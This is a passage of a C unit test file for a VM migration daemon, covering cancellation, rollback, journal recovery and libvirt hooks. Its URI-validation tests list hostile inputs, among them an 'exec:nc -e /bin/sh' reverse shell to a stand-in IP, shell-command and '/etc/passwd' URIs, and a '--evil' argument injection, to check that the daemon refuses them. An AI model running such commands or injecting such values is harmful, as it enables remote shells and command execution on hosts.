// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * tests/unit/test_migrate.c — the migration state machine (host-agent/migrate.c) without
 * QEMU.  The daemon's own objects run on a real loop; around them (tests/unit/hostd_harness.c):
 *   - a fake hypervisor (struct hv_ops): records every call, the test answers them and
 *     sends QEMU's events (STOP, MIGRATION status, RESUME) through the VM's callbacks;
 *   - the guest agent, played over the VM's guest channel socket with libhybond-proto
 *     frames (HELLO, STATUS with the pair, SWITCH_DONE, FAST_PATH_UP, EVENT);
 *   - the peer daemon on a unix socket (MIGRATE_PREPARE -> MIGRATE_READY, ...);
 *   - the eswitch: the sriov-legacy backend on the fake sysfs tree, requests captured.
 * Cases: cancel in MIGRATING (migrate_cancel, no rollback before QEMU confirms, RX back to
 * the VF only once the guest reports it, RESUME_FAST_PATH again when the VF leaves and comes
 * back after the first answer); cancel refused in stop-and-copy and after completion; a
 * cancel that comes too late; the peer lost in MIGRATING; recovery from the journal (waits
 * for the QMP session; QEMU's answer decides: cancel, cleanup, rollback); a destination
 * told there is no guest agent.  main.c is not linked (registry.c is).
 */
#include "tests/unit/cu_run.h"
#include <errno.h>
#include <grp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "host-agent/common/child.h"
#include "host-agent/hostd/ctl/ctl.h"
#include "host-agent/hostd/hostd.h"
#include "host-agent/hostd/ops/idle.h"
#include "host-agent/hostd/ops/migrate.h"
#include "host-agent/hostd/peer/peer.h"
#include "host-agent/hostd/peer/peer_uri.h"
#include "host-agent/hostd/registry.h"
#include "host-agent/hostd/vm.h"
#include "tests/unit/hostd_harness.h"
#include "host-agent/hostd/sentry/sentry.h"

/* The guest agent: it may refuse the next refuse_resume RESUME_FAST_PATHs (answers
 * STANDBY although its VF is up: not usable yet, as a real agent can). */
static int refuse_resume;

static void g_reset(void)
{
	refuse_resume = 0;
}

static int g_request(const struct hb_msg *req)
{
	if (req->type != HB_MSG_RESUME_FAST_PATH || refuse_resume <= 0)
		return 0;
	refuse_resume--;
	G.n_resume++;
	g_fast_path_up(req, HB_PATH_STANDBY);
	return 1;
}

const struct g_hooks g_hooks = { .reset = g_reset, .request = g_request };

static int journal_has(const char *want_phase)
{
	char p[256], buf[4096];
	FILE *f;
	size_t n;

	(void)snprintf(p, sizeof(p), "%s/ops/vm1.migrate.json", dir);
	f = fopen(p, "re");
	if (!f)
		return 0;
	n = fread(buf, 1, sizeof(buf) - 1, f);
	(void)fclose(f);
	buf[n] = 0;
	return !want_phase || strstr(buf, want_phase) != NULL;
}

/* Source from PREFLIGHT to MIGRATING: MIGRATE_READY, RX to the standby, TX pinned. */
static void to_migrating(void)
{
	char err[256];

	CU_ASSERT_EQUAL_FATAL(mig_start_source(V, "B", 0, NULL, err, sizeof(err)), 0);
	CU_ASSERT_EQUAL_FATAL(until("S_MIGRATING", 2000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_STANDBY);
	CU_ASSERT_EQUAL(G.n_prepare, 1);
	CU_ASSERT_EQUAL(called("migrate"), 1);
	CU_ASSERT_TRUE(journal_has("S_MIGRATING"));
	if (V->cfg.mode == VM_MODE_FAILOVER) {
		g_vf_vanished();        /* QEMU unplugged the failover primary (wait-unplug) */
		pump(20);
		CU_ASSERT_FALSE(vm_vf_up(V));
	}
}

/* ---- tests ---- */

/* hybond cancel in MIGRATING: migrate_cancel; the rollback waits for QEMU; RX back to the
 * VF only when the guest reports it; the VF that leaves again after FAST_PATH_UP (QEMU's late
 * re-plug of a failover primary) gets RESUME_FAST_PATH again. */
static void test_cancel_migrating(void)
{
	char msg[256];

	setup(VM_MODE_FAILOVER, 1);
	to_migrating();
	CU_ASSERT_EQUAL(mig_cancel(V, msg, sizeof(msg)), 0);
	CU_ASSERT_PTR_NOT_NULL(strstr(msg, "migrate_cancel"));
	CU_ASSERT_STRING_EQUAL(phase(), "S_CANCEL");
	CU_ASSERT_EQUAL(called("migrate_cancel"), 1);
	CU_ASSERT_EQUAL(mig_cancel(V, msg, sizeof(msg)), -EALREADY);
	/* QEMU is still cancelling: nothing is undone, D is not told */
	CU_ASSERT_EQUAL(answer_ok("migrate_cancel"), 1);
	CU_ASSERT(answer_migrate("cancelling", -1) >= 1);
	pump(50);
	CU_ASSERT_STRING_EQUAL(phase(), "S_CANCEL");
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_STANDBY);
	CU_ASSERT_EQUAL(P.n_results, 0);
	/* QEMU: cancelled -> rollback; the failover primary comes back by QEMU */
	hv_event(HV_EV_MIGRATION, "cancelled");
	CU_ASSERT_STRING_EQUAL(phase(), "S_RB_WAIT_VF");
	pump(50);
	CU_ASSERT_EQUAL(P.n_results, 1);
	CU_ASSERT_EQUAL(P.result_ok[0], 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_STANDBY);   /* the VF is not reported yet */
	CU_ASSERT_EQUAL(answer_status(1, "running"), 1);
	CU_ASSERT_EQUAL(called("cont"), 0);
	/* QEMU re-plugs, the guest reports its VF: RX to the VF, RESUME_FAST_PATH, FAST */
	G.vf_present = G.vf_up = 1;
	g_status(NULL);
	CU_ASSERT_EQUAL(until("S_RB_SETTLE", 1000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_VF);
	CU_ASSERT_EQUAL(G.n_resume, 1);
	/* the VF vanishes after the answer, the agent pins TX: RX to the standby, wait */
	g_vf_vanished();
	CU_ASSERT_EQUAL(until("S_RB_WAIT_VF", 1000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_STANDBY);
	/* ... and comes back: RESUME_FAST_PATH again */
	G.vf_present = G.vf_up = 1;
	g_status(NULL);
	CU_ASSERT_EQUAL(until("S_RB_SETTLE", 1000), 0);
	CU_ASSERT_EQUAL(G.n_resume, 2);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_VF);
	/* it holds: the migration ends FAILED on the fast path, journal entry removed */
	CU_ASSERT_EQUAL(until("none", 5000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_VF);
	CU_ASSERT_FALSE(journal_has(NULL));
	CU_ASSERT_EQUAL(mig_cancel(V, msg, sizeof(msg)), -ENOENT);
	CU_ASSERT_PTR_NOT_NULL(strstr(msg, "no migration"));
	teardown();
}

/* stop-and-copy and after: cancel refused with the reason; the normal end. */
static void test_cancel_refused(void)
{
	char msg[256];

	setup(VM_MODE_FAILOVER, 1);
	to_migrating();
	hv_event(HV_EV_STOP, "");
	CU_ASSERT_STRING_EQUAL(phase(), "S_STOPPED");
	pump(20);
	CU_ASSERT_EQUAL(p_got(HB_MSG_MIGRATE_STOPPED), 1);
	CU_ASSERT_EQUAL(mig_cancel(V, msg, sizeof(msg)), -EBUSY);
	CU_ASSERT_PTR_NOT_NULL(strstr(msg, "stop-and-copy; it completes or fails on its own"));
	hv_event(HV_EV_MIGRATION, "completed");
	CU_ASSERT(answer_migrate("completed", 900) >= 1);
	CU_ASSERT_STRING_EQUAL(phase(), "S_DEST_SWITCHBACK");
	CU_ASSERT_EQUAL(mig_cancel(V, msg, sizeof(msg)), -EBUSY);
	CU_ASSERT_PTR_NOT_NULL(strstr(msg, "runs on B"));
	pump(20);
	CU_ASSERT_EQUAL(P.n_results, 1);
	CU_ASSERT_EQUAL(P.result_ok[0], 1);
	p_finished();
	CU_ASSERT_EQUAL(until("none", 1000), 0);
	CU_ASSERT_EQUAL(called("quit"), 1);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_NONE);
	CU_ASSERT_FALSE(V->here);
	CU_ASSERT_EQUAL(called("migrate_cancel"), 0);
	teardown();
}

/* The cancel loses the race: QEMU completes; the VM is on B, no rollback. */
static void test_cancel_too_late(void)
{
	char msg[256];

	setup(VM_MODE_FAILOVER, 1);
	to_migrating();
	CU_ASSERT_EQUAL(mig_cancel(V, msg, sizeof(msg)), 0);
	hv_event(HV_EV_MIGRATION, "completed");
	CU_ASSERT_STRING_EQUAL(phase(), "S_STOPPED");
	CU_ASSERT(answer_migrate("completed", 900) >= 1);
	CU_ASSERT_STRING_EQUAL(phase(), "S_DEST_SWITCHBACK");
	pump(20);
	CU_ASSERT_EQUAL(p_got(HB_MSG_MIGRATE_STOPPED), 1);     /* D announces */
	CU_ASSERT_EQUAL(P.n_results, 1);
	CU_ASSERT_EQUAL(P.result_ok[0], 1);
	/* MIGRATE_FINISHED already came: cleanup without waiting */
	p_finished();
	CU_ASSERT_EQUAL(until("none", 1000), 0);
	CU_ASSERT_EQUAL(called("quit"), 1);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_NONE);
	teardown();
}

/* D's daemon gone while RAM moves: CANCEL (not a rollback under a live migration). */
static void test_peer_lost_migrating(void)
{
	setup(VM_MODE_FAILOVER, 1);
	to_migrating();
	(void)close(P.s.fd);
	P.s.fd = -1;
	(void)close(P.s.lfd);
	P.s.lfd = -1;
	CU_ASSERT_EQUAL(until("S_CANCEL", 1000), 0);
	CU_ASSERT_EQUAL(called("migrate_cancel"), 1);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_STANDBY);
	/* the cancel went through, the status poll says so (no event needed) */
	CU_ASSERT_EQUAL(answer_ok("migrate_cancel"), 1);
	CU_ASSERT(answer_migrate("cancelled", -1) >= 1);
	CU_ASSERT_EQUAL(until("S_RB_WAIT_VF", 1000), 0);
	G.vf_present = G.vf_up = 1;     /* QEMU re-plugs its primary */
	g_status(NULL);
	CU_ASSERT_EQUAL(until("none", 5000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_VF);
	CU_ASSERT_EQUAL(G.n_resume, 1);
	teardown();
}

/* The rollback's budget: a VF that never comes back leaves RX on the standby, FAILED. */
static void test_rollback_no_vf(void)
{
	json_t *errs;

	setup(VM_MODE_FAILOVER, 1);
	to_migrating();
	hv_event(HV_EV_MIGRATION, "failed");
	CU_ASSERT_STRING_EQUAL(phase(), "S_RB_WAIT_VF");
	CU_ASSERT_EQUAL(until("none", 5000), 0);        /* vf_up_timeout_ms 3000 */
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_STANDBY);
	CU_ASSERT_EQUAL(G.n_resume, 0);
	CU_ASSERT_EQUAL(called("migrate_cancel"), 0);   /* QEMU had ended it */
	CU_ASSERT_FALSE(journal_has(NULL));
	/* the result, kept for status with no CLI attached: both failures, each with its
	 * phase, the first one's text first in "error" */
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(V->last_op, "op")), "migrate");
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(V->last_op, "role")), "source");
	CU_ASSERT_FALSE(json_is_true(json_object_get(V->last_op, "ok")));
	errs = json_object_get(V->last_op, "errors");
	CU_ASSERT_EQUAL_FATAL(json_array_size(errs), 2);
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(json_array_get(errs, 0),
								 "phase")), "S_MIGRATING");
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(json_array_get(errs, 1),
								 "phase")), "S_RB_WAIT_VF");
	CU_ASSERT_PTR_NOT_NULL(strstr(json_string_value(json_object_get(V->last_op, "error")),
				      "QEMU reports the migration failed; rolled back, but the VF"));
	CU_ASSERT_PTR_NULL(json_object_get(V->last_op, "errno"));       /* no call failed */
	teardown();
}

/* A call that fails keeps its errno: the result names it, the text says what failed. */
static void test_fail_errno(void)
{
	json_t *e;
	char err[256];

	setup(VM_MODE_BOND, 1);
	(void)snprintf(H.fail_call, sizeof(H.fail_call), "device_del");
	H.fail_rc = -ENODEV;
	CU_ASSERT_EQUAL_FATAL(mig_start_source(V, "B", 0, NULL, err, sizeof(err)), 0);
	CU_ASSERT_EQUAL(until("none", 5000), 0);        /* rolled back to the fast path */
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(V->last_op, "errno")), "ENODEV");
	e = json_array_get(json_object_get(V->last_op, "errors"), 0);
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(e, "phase")), "S_UNPLUG_VF");
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(e, "errno")), "ENODEV");
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(e, "error")),
			       "device_del vf0: No such device");
	teardown();
}

/* The migration URI is the source's, not the peer's: a hostile destination answering
 * exec:/file:/… is refused before anything moves and QEMU is never asked to migrate. */
static void test_hostile_uri(void)
{
	static const char *const bad[] = {
		"exec:sh -c 'touch /tmp/hybond-pwned'", "file:/etc/passwd", "fd:3",
		"unix:relative/mig.sock", "unix:/a,b", "unix:/x/../y", "tcp:host.example:4444",
		"tcp:198.18.0.1", "tcp:198.18.0.1:0", "tcp:198.18.0.1:65536", "tcp:198.18.0.1:+1",
		"rdma:198.18.0.1:4444", "tcp:198.18.0.1:4444\n", "",
	};
	char err[256];
	size_t i;

	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		setup(VM_MODE_FAILOVER, 1);
		P.offer_uri = bad[i];
		CU_ASSERT_EQUAL_FATAL(mig_start_source(V, "B", 0, NULL, err, sizeof(err)), 0);
		CU_ASSERT_EQUAL(until("none", 3000), 0);
		CU_ASSERT_EQUAL(called("migrate"), 0);
		CU_ASSERT_EQUAL(G.n_prepare, 0);                /* nothing moved */
		CU_ASSERT_EQUAL(V->cnt.steer_standby, 0);
		CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(V->last_op, "errno")),
				       "EPERM");
		teardown();
	}
	/* what is taken: a local peer's unix socket path, as the lab's launcher prints it */
	setup(VM_MODE_FAILOVER, 1);
	P.offer_uri = "unix:/run/hybond-lab/vms/vm1/hB/mig.sock";
	to_migrating();
	CU_ASSERT_EQUAL(called("migrate"), 1);
	teardown();
}

/* The URI built for a peer reached over TCP: only the port is the peer's. */
static void test_peer_uri(void)
{
	struct peer_config tcp = { .name = "B", .address = "198.19.254.2:7000" };
	struct peer_config v6 = { .name = "C", .address = "[2001:db8::2]:7000" };
	struct peer_config local = { .name = "L", .socket = "/run/hybond/peer.sock" };
	char out[CFG_PATH_MAX], err[512];

	CU_ASSERT_EQUAL(peer_migration_uri(&tcp, "tcp:203.0.113.66:49152", out, sizeof(out),
					   err, sizeof(err)), 0);
	CU_ASSERT_STRING_EQUAL(out, "tcp:198.19.254.2:49152");
	CU_ASSERT_EQUAL(peer_migration_uri(&tcp, "tcp:[::1]:49153", out, sizeof(out), err,
					   sizeof(err)), 0);
	CU_ASSERT_STRING_EQUAL(out, "tcp:198.19.254.2:49153");
	CU_ASSERT_EQUAL(peer_migration_uri(&v6, "tcp:0:50000", out, sizeof(out), err,
					   sizeof(err)), 0);
	CU_ASSERT_STRING_EQUAL(out, "tcp:[2001:db8::2]:50000");
	/* a remote peer never names a unix socket on this host */
	CU_ASSERT_EQUAL(peer_migration_uri(&tcp, "unix:/run/libvirt/libvirt-sock", out,
					   sizeof(out), err, sizeof(err)), -EPERM);
	CU_ASSERT_PTR_NOT_NULL(strstr(err, "peer B offered"));
	CU_ASSERT_EQUAL(peer_migration_uri(&tcp, "exec:nc -e /bin/sh 203.0.113.66 1", out,
					   sizeof(out), err, sizeof(err)), -EPERM);
	CU_ASSERT_PTR_NOT_NULL(strstr(err, "nothing was run"));
	/* control characters are quoted escaped */
	CU_ASSERT_EQUAL(peer_migration_uri(&tcp, "exec:\x1b[2J\n", out, sizeof(out), err,
					   sizeof(err)), -EPERM);
	CU_ASSERT_PTR_NOT_NULL(strstr(err, "\\x1b"));
	CU_ASSERT_PTR_NULL(strchr(err, '\n'));
	/* a local peer: an IP literal or an absolute plain path */
	CU_ASSERT_EQUAL(peer_migration_uri(&local, "tcp:198.19.254.2:49152", out, sizeof(out),
					   err, sizeof(err)), 0);
	CU_ASSERT_STRING_EQUAL(out, "tcp:198.19.254.2:49152");
	CU_ASSERT_EQUAL(peer_migration_uri(&local, "tcp:[::1]:49152", out, sizeof(out), err,
					   sizeof(err)), 0);
	CU_ASSERT_EQUAL(peer_migration_uri(&local, "unix:/run/x/mig.sock", out, sizeof(out),
					   err, sizeof(err)), 0);
	CU_ASSERT_STRING_EQUAL(out, "unix:/run/x/mig.sock");
	CU_ASSERT_EQUAL(peer_migration_uri(&local, "unix:/run/x/mig sock", out, sizeof(out),
					   err, sizeof(err)), -EPERM);
	CU_ASSERT_EQUAL(peer_migration_uri(&local, NULL, out, sizeof(out), err, sizeof(err)),
			-EPERM);
}

/* A drill's record and a migration's for the same VM (a daemon killed twice): the
 * migration is recovered, it decides where the VM runs ("drill" sorts first). */
static void test_recover_migration_first(void)
{
	struct jrnl_op op;
	int kind;

	setup(VM_MODE_FAILOVER, 1);
	H.ready = 0;
	for (kind = 0; kind < 2; kind++) {
		jrnl_op_init(&op);
		(void)snprintf(op.vm, sizeof(op.vm), "vm1");
		op.kind = kind ? JRNL_MIGRATE : JRNL_DRILL;
		(void)snprintf(op.phase, sizeof(op.phase), "%s", kind ? "S_MIGRATING" : "SWITCH_TX");
		(void)snprintf(op.source, sizeof(op.source), "A");
		(void)snprintf(op.dest, sizeof(op.dest), "B");
		(void)snprintf(op.mac, sizeof(op.mac), MAC_S);
		op.steer_src = JRNL_STEER_STANDBY;
		op.extra = json_pack("{s:s, s:b}", "vf_id", "vf0", "migrate_sent", kind);
		CU_ASSERT_EQUAL_FATAL(jrnl_write(D.j, &op), 0);
		jrnl_op_clear(&op);
	}
	idle_bg_ops.recover(V);
	CU_ASSERT_STRING_EQUAL(phase(), "S_RECOVER");
	teardown();
}

/* A journal left in PHASE; QEMU answers MSTATUS / STATUS (running): where it goes. */
static void recover_case(enum vm_mode mode, const char *jphase, const char *mstatus, int running,
			 const char *status, const char *want_phase)
{
	struct jrnl_op op;
	int moved;

	setup(mode, 1);
	H.ready = 0;                    /* a restarted daemon: no QMP session yet */
	jrnl_op_init(&op);
	(void)snprintf(op.vm, sizeof(op.vm), "vm1");
	op.kind = JRNL_MIGRATE;
	(void)snprintf(op.phase, sizeof(op.phase), "%s", jphase);
	(void)snprintf(op.source, sizeof(op.source), "A");
	(void)snprintf(op.dest, sizeof(op.dest), "B");
	(void)snprintf(op.mac, sizeof(op.mac), MAC_S);
	moved = strcmp(jphase, "S_DEST_PREPARE") != 0;
	op.steer_src = moved ? JRNL_STEER_STANDBY : JRNL_STEER_VF;
	op.extra = json_pack("{s:s, s:b, s:i}", "vf_id", "vf0", "migrate_sent",
			     moved && strcmp(jphase, "S_UNPLUG_VF") != 0, "vf_seq", 3);
	CU_ASSERT_EQUAL_FATAL(jrnl_write(D.j, &op), 0);
	jrnl_op_clear(&op);
	idle_bg_ops.recover(V);
	CU_ASSERT_STRING_EQUAL(phase(), "S_RECOVER");
	idle_bg_ops.recover(V);         /* a second pass: recovered once */
	pump(50);
	CU_ASSERT_EQUAL(called("query-migrate"), 0);    /* nothing before QMP is up */
	CU_ASSERT_TRUE(journal_has(jphase));            /* RECOVER is not journalled */
	H.ready = 1;
	H.cb->on_ready(H.arg);
	CU_ASSERT_EQUAL(answer_migrate(mstatus, -1), 1);
	CU_ASSERT_EQUAL(answer_status(running, status), 1);
	if (strcmp(phase(), want_phase) != 0)
		(void)fprintf(stderr, "  %s + %s/%s: %s, want %s\n", jphase, mstatus, status,
			      phase(), want_phase);
	CU_ASSERT_STRING_EQUAL(phase(), want_phase);
}

static void test_recover_source(void)
{
	/* still migrating: cancel first, roll back once QEMU confirms */
	recover_case(VM_MODE_FAILOVER, "S_MIGRATING", "active", 1, "running", "S_CANCEL");
	CU_ASSERT_EQUAL(called("migrate_cancel"), 1);
	hv_event(HV_EV_MIGRATION, "cancelled");
	CU_ASSERT_EQUAL(until("none", 5000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_VF);
	CU_ASSERT_EQUAL(V->vf_seq, 3u);                 /* from the journal */
	teardown();
	/* completed while the daemon was down: the VM is on B, clean up here */
	recover_case(VM_MODE_FAILOVER, "S_STOPPED", "completed", 0, "postmigrate", "none");
	CU_ASSERT_EQUAL(called("quit"), 1);
	CU_ASSERT_EQUAL(called("cont"), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_NONE);
	CU_ASSERT_FALSE(journal_has(NULL));
	teardown();
	/* failed (B aborted when the source's channel dropped): back to the fast path */
	recover_case(VM_MODE_FAILOVER, "S_MIGRATING", "failed", 1, "running", "S_RB_WAIT_VF");
	CU_ASSERT_EQUAL(called("migrate_cancel"), 0);
	CU_ASSERT_EQUAL(until("none", 5000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_VF);
	CU_ASSERT_EQUAL(G.n_resume, 1);
	teardown();
	/* left before anything moved: nothing to undo */
	recover_case(VM_MODE_FAILOVER, "S_DEST_PREPARE", "", 1, "running", "none");
	CU_ASSERT_FALSE(journal_has(NULL));
	CU_ASSERT_EQUAL(G.n_resume, 0);
	teardown();
}

/* A bond VF that was unplugged: the rollback after a restart re-plugs it with a fresh id,
 * only after query-pci says it is gone. */
static void test_recover_bond_replug(void)
{
	struct hv_result r;

	recover_case(VM_MODE_BOND, "S_UNPLUG_VF", "", 1, "running", "S_RB_REPLUG");
	CU_ASSERT_EQUAL(called("query-pci"), 1);
	memset(&r, 0, sizeof(r));
	r.present = 0;
	CU_ASSERT_EQUAL(answer("query-pci", &r), 1);
	CU_ASSERT_STRING_EQUAL(phase(), "S_RB_WAIT_VF");
	CU_ASSERT_EQUAL(called("device_add"), 1);
	CU_ASSERT_STRING_EQUAL(V->vf_id, "hb-vf4");     /* vf_seq 3 in the journal */
	CU_ASSERT_EQUAL(until("none", 5000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_VF);
	teardown();
}

static const struct peer_ops tpeer_ops;

static void tp_msg(void *arg, struct peer_conn *pc, const struct hb_msg *m)
{
	if (arg)
		mig_on_peer_msg(arg, pc, m);
}

static void tp_closed(void *arg, struct peer_conn *pc, int err)
{
	if (arg)
		mig_on_peer_closed(arg, pc, err);
}

static const struct peer_ops tpeer_ops = { .on_msg = tp_msg, .on_closed = tp_closed };

/* The destination told AGENT 0 (--force without an agent): MAC to the VF port at RESUME,
 * MIGRATE_FINISHED FAST at once, "unverified". */
static void test_dest_no_agent(void)
{
	struct peer_conn *pc;
	struct hb_msg req;
	char err[256];
	int sv[2];

	setup(VM_MODE_FAILOVER, 0);
	(void)snprintf(D.cfg.host, sizeof(D.cfg.host), "B");    /* this host; A migrates here */
	CU_ASSERT_EQUAL_FATAL(socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0,
					 sv), 0);
	pc = peer_conn_new(D.l, sv[0], &tpeer_ops, NULL, "A");
	CU_ASSERT_PTR_NOT_NULL_FATAL(pc);
	P.s.fd = sv[1];
	hb_msg_init(&req, HB_MSG_MIGRATE_PREPARE, 1);
	req.u.migrate_prepare.vm = "vm1";
	(void)esw_parse_mac(MAC_S, req.u.migrate_prepare.mac);
	req.u.migrate_prepare.mode = VM_MODE_FAILOVER;
	req.u.migrate_prepare.source = "A";
	req.u.migrate_prepare.agent = 0;
	HB_MARK(&req.u.migrate_prepare, MIGRATE_PREPARE, AGENT);
	CU_ASSERT_EQUAL_FATAL(mig_start_dest(V, pc, &req, err, sizeof(err)), 0);
	CU_ASSERT_EQUAL(until("D_INCOMING", 3000), 0);  /* the launcher ran */
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_STANDBY);
	H.ready = 1;
	CU_ASSERT_EQUAL(answer_ok("migrate-incoming"), 1);
	pump(20);
	CU_ASSERT_EQUAL(p_got(HB_MSG_MIGRATE_READY), 1);
	hv_event(HV_EV_RESUME, "");
	CU_ASSERT_EQUAL(until("none", 1000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_VF);        /* at RESUME, no guest to wait for */
	CU_ASSERT_TRUE(V->here);
	pump(20);
	CU_ASSERT_EQUAL(P.finished_path, HB_PATH_FAST);
	CU_ASSERT_PTR_NOT_NULL(strstr(P.finished_text, "unverified: no guest agent"));
	/* the destination keeps its own result for status: it came from A to this host */
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(V->last_op, "role")),
			       "destination");
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(V->last_op, "from")), "A");
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(V->last_op, "to")), "B");
	CU_ASSERT_TRUE(json_is_true(json_object_get(V->last_op, "ok")));
	teardown();
}

/* ---- libvirt: `virsh migrate` ---- */

/* Destination: the qemu hook's `migrate begin`: D steers to its standby, asks the source
 * (MIGRATE_INCOMING), and only on MIGRATE_READY lets libvirt go on; no launcher QEMU, no
 * migrate-incoming (libvirt's Prepare does it); then STOP -> announce, RESUME, fast path. */
static void test_lv_hook_dest(void)
{
	char err[256];
	int answered = -1;
	unsigned steer_standby;

	setup_lv = 1;
	setup(VM_MODE_FAILOVER, 0);
	CU_ASSERT_EQUAL_FATAL(mig_hook_incoming(V, NULL, "B", NULL, err, sizeof(err), &answered), 0);
	CU_ASSERT_EQUAL(answered, 0);
	CU_ASSERT_EQUAL(until("D_INCOMING", 3000), 0);
	CU_ASSERT_EQUAL(p_got(HB_MSG_MIGRATE_INCOMING), 1);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_STANDBY);
	CU_ASSERT_EQUAL(called("migrate-incoming"), 0);
	CU_ASSERT_FALSE(V->here);
	/* libvirt starts the incoming domain: its guest channel exists from now on (the
	 * daemon drops the session it had and connects anew) */
	(void)close(G.s.fd);
	G.s.fd = -1;
	H.ready = 1;
	H.cb->on_ready(H.arg);
	pump(50);
	p_stopped();
	CU_ASSERT_EQUAL(until("D_ANNOUNCED", 1000), 0);
	G.vf_present = G.vf_up = 0;
	G.active = HB_PATH_STANDBY;
	hv_event(HV_EV_RESUME, "");
	CU_ASSERT_EQUAL(until("D_WAIT_VF", 1000), 0);
	CU_ASSERT_TRUE(V->here);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_STANDBY);   /* never before the guest says so */
	/* the VF up; the guest refuses twice: RX back to the standby each time, and again on
	 * the guest's next STATUS (fastpath.c for D) */
	steer_standby = V->cnt.steer_standby;
	refuse_resume = 2;
	G.vf_present = G.vf_up = 1;
	g_status(NULL);
	CU_ASSERT_EQUAL(until("none", 2000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_VF);
	CU_ASSERT_EQUAL(G.n_resume, 3);
	CU_ASSERT_EQUAL(V->cnt.steer_standby, steer_standby + 2);
	CU_ASSERT_EQUAL(V->cnt.steer_vf, 3);
	/* the source was told once, at the first refusal: on the standby */
	pump(20);
	CU_ASSERT_EQUAL(p_got(HB_MSG_MIGRATE_FINISHED), 1);
	CU_ASSERT_EQUAL(P.finished_path, HB_PATH_STANDBY);
	CU_ASSERT_TRUE(json_is_true(json_object_get(V->last_op, "ok")));
	/* a second hook for a VM that runs here now is refused */
	CU_ASSERT_EQUAL(mig_hook_incoming(V, NULL, "B", NULL, err, sizeof(err), &answered), -EEXIST);
	teardown();
}

/* A command that closes its stdout and runs on (a launcher that daemonizes badly) is
 * waited for on the loop: the daemon keeps serving meanwhile. */
static int child_status = -2;

static void child_done_cb(void *arg, const char *out, size_t len, int status)
{
	(void)arg;
	(void)out;
	(void)len;
	child_status = status;
}

static void test_child_no_block(void)
{
	char *argv[] = { "/bin/sh", "-c", "exec >&-; sleep 3", NULL };
	struct child_spec cs = { .argv = argv, .out_max = 64 };
	struct child *c;
	unsigned t;
	int err;

	setup(VM_MODE_FAILOVER, 1);
	child_status = -2;
	c = child_spawn(D.l, &cs, child_done_cb, NULL, &err);
	CU_ASSERT_PTR_NOT_NULL_FATAL(c);
	/* a blocking waitpid would return from this pump only once the command exited
	 * (3 s), with child_status set */
	pump(100);
	CU_ASSERT_EQUAL(child_status, -2);
	for (t = 0; t < 8000 && child_status == -2; t += 50)
		pump(50);
	CU_ASSERT_EQUAL(child_status, 0);               /* reaped once it exited */
	teardown();
}

/* The source host named in a domain's metadata (written on another host) is substituted
 * into the launcher only as one plain word: "B --evil" runs nothing. */
static void test_lv_hook_peer_word(void)
{
	char err[256];
	int answered = -1;
	const char *e;

	setup_lv = 1;
	setup(VM_MODE_FAILOVER, 0);
	(void)snprintf(V->cfg.launcher, sizeof(V->cfg.launcher), "/bin/true {peer}");
	CU_ASSERT_EQUAL_FATAL(mig_hook_incoming(V, NULL, "B --evil", NULL, err, sizeof(err),
						&answered), 0);
	CU_ASSERT_EQUAL(until("none", 2000), 0);
	CU_ASSERT_FALSE(json_is_true(json_object_get(V->last_op, "ok")));
	e = json_string_value(json_object_get(V->last_op, "error"));
	CU_ASSERT_PTR_NOT_NULL(e ? strstr(e, "launcher") : NULL);
	CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(V->last_op, "errno")), "EINVAL");
	teardown();
}

/* Destination: the source daemon refuses: the hook is answered anyway (the operator's
 * migration must not fail for hybond), without a peer channel. */
static void test_lv_hook_refused(void)
{
	char err[256];
	int answered = -1;

	setup_lv = 1;
	setup(VM_MODE_FAILOVER, 0);
	P.refuse_incoming = 1;
	CU_ASSERT_EQUAL_FATAL(mig_hook_incoming(V, NULL, "B", NULL, err, sizeof(err), &answered), 0);
	CU_ASSERT_EQUAL(until("D_INCOMING", 3000), 0);
	CU_ASSERT_EQUAL(V->rx_steer, ESW_TO_STANDBY);
	{
		json_t *o = mig_to_json(V);
		const char *note = json_string_value(json_object_get(o, "note"));

		CU_ASSERT_TRUE(note && strstr(note, "refused") != NULL);
		CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(o, "driven_by")),
				       "libvirt (virsh migrate)");
		json_decref(o);
	}
	/* an unknown source host: not coordinated at once */
	teardown();
	setup_lv = 1;
